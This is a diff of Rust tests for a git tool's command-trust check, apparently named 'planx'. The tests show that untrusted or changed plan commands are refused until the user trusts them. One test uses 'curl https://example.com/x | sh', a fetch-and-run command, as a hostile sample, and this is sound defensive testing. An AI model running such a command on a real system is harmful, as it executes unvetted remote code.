@@ -2,12 +2,12 @@
 
 use insta::assert_snapshot;
 
-use crate::common::{Repo, WALK_PLAN};
+use crate::common::{Repo, WALK_PLAN, walk_plan};
 
 #[test]
 fn untrusted_commands_are_refused_before_anything_runs() {
     let repo = Repo::new();
-    repo.write_plan(&WALK_PLAN.replace(r#"run = ["test"]"#, r#"run = ["touch ran"]"#));
+    repo.write_plan(&walk_plan().preflight(["touch ran"]).toml());
     repo.commit_all("Plan");
     assert_snapshot!(repo.planx(&["start", "a"]), @"
     --- stderr ---
@@ -24,8 +24,12 @@ fn untrusted_commands_are_refused_before_anything_runs() {
 
 #[test]
 fn changed_commands_need_trust_again_and_show_a_diff() {
-    let repo = Repo::with_plan(WALK_PLAN);
-    repo.write_plan(&WALK_PLAN.replace("test ! -e broken", "curl https://example.com/x | sh"));
+    let repo = Repo::with_plan(&WALK_PLAN);
+    repo.write_plan(
+        &walk_plan()
+            .command("test", "curl https://example.com/x | sh")
+            .toml(),
+    );
     repo.commit_all("Change a command");
     assert_snapshot!(repo.planx(&["start", "a"]), @"
     --- stderr ---
@@ -51,10 +55,9 @@ fn changed_commands_need_trust_again_and_show_a_diff() {
 fn trust_once_and_the_environment() {
     let marker = |repo: &Repo| repo.root.parent().unwrap().join("preflight-ran");
     let plan = |repo: &Repo| {
-        WALK_PLAN.replace(
-            r#"run = ["test"]"#,
-            &format!(r#"run = ["touch {}"]"#, marker(repo).display()),
-        )
+        walk_plan()
+            .preflight([format!("touch {}", marker(repo).display())])
+            .toml()
     };
     let nothing_stored = |repo: &Repo| {
         assert_eq!(
@@ -86,7 +89,7 @@ fn trust_once_and_the_environment() {
 #[test]
 fn the_repository_cannot_grant_trust() {
     let repo = Repo::new();
-    repo.write_plan(WALK_PLAN);
+    repo.write_plan(&WALK_PLAN);
     repo.commit_all("Plan");
     // Neither the repository's config nor a file in it can stand in for `git planx trust`.
     repo.git(&["config", "planx.trust", "1"]);
